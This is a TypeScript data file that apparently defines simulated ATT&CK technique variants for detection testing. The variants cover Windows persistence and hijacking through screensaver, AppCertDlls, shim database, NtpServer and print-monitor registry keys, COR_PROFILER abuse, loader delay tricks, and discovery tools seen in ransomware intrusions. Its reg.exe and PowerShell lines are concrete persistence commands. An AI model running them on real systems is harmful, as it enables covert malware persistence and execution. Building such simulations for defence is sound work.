import { v } from "../dsl";
import type { Variant } from "../types";

const DESKTOP = "HKCU\\Control Panel\\Desktop";
const SDB = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB";
const NTP = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\NtpServer";
const MONITORS = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors";
const APPCERT = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls";

/**
 * Extra variants (see ../extras.ts) for persistence and hijack rows that had a single behaviour: the Atomic
 * screensaver in System32, AppCertDlls written from PowerShell, a process-scope COR_PROFILER, the w32tm "stripchart" sleep loaders use before their payload, and the
 * PCHunter and SharpView discovery seen in ransomware intrusions.
 */
export const extrasJ: Readonly<Record<string, readonly Variant[]>> = {
  // Atomic T1546.002: a payload copied into System32 as a .scr, then the four Desktop values that arm it.
  "T1546.002": [
    v(
      "scr-in-system32",
      [
        {
          cmd: "cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe C:\\Windows\\System32\\{{name}}.scr",
          files: ["C:\\Windows\\System32\\{{name}}.scr"],
        },
        {
          cmd: `reg.exe add "${DESKTOP}" /v ScreenSaveActive /t REG_SZ /d 1 /f`,
          reg: [[DESKTOP, "ScreenSaveActive", "1"]],
        },
        {
          cmd: `reg.exe add "${DESKTOP}" /v ScreenSaveTimeout /t REG_SZ /d 60 /f`,
          reg: [[DESKTOP, "ScreenSaveTimeout", "60"]],
        },
        {
          cmd: `reg.exe add "${DESKTOP}" /v ScreenSaverIsSecure /t REG_SZ /d 0 /f`,
          reg: [[DESKTOP, "ScreenSaverIsSecure", "0"]],
        },
        {
          cmd: `reg.exe add "${DESKTOP}" /v SCRNSAVE.EXE /t REG_SZ /d "C:\\Windows\\System32\\{{name}}.scr" /f`,
          reg: [[DESKTOP, "SCRNSAVE.EXE", "C:\\Windows\\System32\\{{name}}.scr"]],
        },
      ],
      { elevated: true },
    ),
  ],
  // The AppCertDlls key does not exist on a default install: creating it is the first event defenders see.
  "T1546.009": [
    v(
      "new-itemproperty",
      [
        {
          ps: `New-Item -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls' -Force | Out-Null; New-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls' -Name '{{name}}' -PropertyType ExpandString -Value 'C:\\Users\\Public\\{{rand}}.dll'`,
          regKeys: [APPCERT],
          reg: [[APPCERT, "{{name}}", "C:\\Users\\Public\\{{rand}}.dll", "REG_EXPAND_SZ"]],
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ],
  // sdb-explorer (Erickson, Black Hat Asia 2014) registers a shim database in place, without sdbinst's copy
  // into AppPatch\Custom: the InstalledSDB entry points at wherever the .sdb was dropped.
  "T1546.011": [
    v(
      "sdb-explorer-register",
      [
        { by: "@explorer", files: ["C:\\ProgramData\\{{rand}}.sdb"] },
        {
          cmd: "{{tools}}\\sdb-explorer.exe -r C:\\ProgramData\\{{rand}}.sdb",
          reg: [
            [
              `${SDB}\\{{{rand2}}-0000-0000-0000-000000000000}`,
              "DatabasePath",
              "C:\\ProgramData\\{{rand}}.sdb",
            ],
            [`${SDB}\\{{{rand2}}-0000-0000-0000-000000000000}`, "DatabaseType", "65536", "REG_DWORD"],
          ],
        },
      ],
      { elevated: true },
    ),
  ],
  // Atomic T1547.003 #2: the built-in NtpServer provider repointed at the payload and enabled.
  "T1547.003": [
    v(
      "hijack-ntpserver",
      [
        {
          cmd: "cmd.exe /c copy /y {{tmp}}\\{{rand}}.dll C:\\Users\\Public\\{{rand}}.dll",
          files: ["C:\\Users\\Public\\{{rand}}.dll"],
        },
        {
          cmd: `reg add "${NTP}" /v DllName /t REG_SZ /d "C:\\Users\\Public\\{{rand}}.dll" /f`,
          reg: [[NTP, "DllName", "C:\\Users\\Public\\{{rand}}.dll"]],
        },
        {
          cmd: `reg add "${NTP}" /v Enabled /t REG_DWORD /d 1 /f`,
          reg: [[NTP, "Enabled", "1", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ],
  // The AddMonitor API instead of reg.exe: the spooler itself writes the Monitors key and loads the DLL
  // from System32 at once (and at every boot).
  "T1547.010": [
    v(
      "addmonitor-api",
      [
        {
          cmd: "{{tools}}\\{{name}}.exe C:\\Windows\\System32\\{{rand}}.dll",
          files: ["C:\\Windows\\System32\\{{rand}}.dll"],
        },
        {
          by: "@spoolsv",
          reg: [[`${MONITORS}\\{{name}}`, "Driver", "{{rand}}.dll"]],
          loads: ["C:\\Windows\\System32\\{{rand}}.dll"],
        },
      ],
      { elevated: true },
    ),
  ],
  // Osiris (Kronos successor, 2018): the transacted section is mapped into a freshly created 32-bit wermgr.exe,
  // which then carries the banker's traffic.
  "T1055.013": [
    v(
      "osiris-wermgr",
      [
        { cmd: "{{appdata}}\\{{name}}.exe", as: "l", parent: "@explorer" },
        { cmd: "C:\\Windows\\SysWOW64\\wermgr.exe", parent: "l", net: [["{{c2}}", 443]], keep: true },
      ],
      { shell: "none" },
    ),
  ],
  // Atomic T1574.012 #3: the profiler set for one process tree only (no registry), then a .NET host started.
  "T1574.012": [
    v(
      "process-scope",
      [
        {
          ps: "$env:COR_ENABLE_PROFILING = 1\n$env:COR_PROFILER = '{09108e71-974c-4010-89cb-acf471ae9e2c}'\n$env:COR_PROFILER_PATH = '{{tmp}}\\{{rand}}.dll'\nPOWERSHELL -c 'Start-Sleep 1'",
        },
        {
          cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c 'Start-Sleep 1'",
          loads: ["{{tmp}}\\{{rand}}.dll"],
        },
      ],
      { shell: "ps" },
    ),
  ],
  // PCHunter's process view, opened to find (and kill) the EDR and backup agents before encryption.
  T1057: [
    v("pchunter", [{ cmd: "{{tools}}\\PCHunter64.exe", files: ["{{tools}}\\PCHunter64.sys"] }], {
      elevated: true,
    }),
  ],
  // SharpView (the .NET PowerView) listing SMB sessions on the file server to find where admins are logged on.
  T1049: [
    v("sharpview-netsession", [
      { cmd: "{{tools}}\\SharpView.exe Get-NetSession -ComputerName {{srvfqdn}}", net: [["@server", 445]] },
    ]),
  ],
  // Loader batch files and LNKs (IcedID, Bumblebee) wait with w32tm's stripchart before starting the payload.
  T1124: [
    v(
      "w32tm-stripchart",
      [
        {
          cmd: 'cmd.exe /c w32tm /stripchart /computer:localhost /period:5 /dataonly /samples:2 >nul & start "" "{{appdata}}\\{{name}}.exe"',
          as: "c",
          parent: "@explorer",
        },
        { cmd: "w32tm /stripchart /computer:localhost /period:5 /dataonly /samples:2", parent: "c" },
        { cmd: '"{{appdata}}\\{{name}}.exe"', parent: "c", net: [["{{c2}}", 443]] },
      ],
      { shell: "none" },
    ),
  ],
};
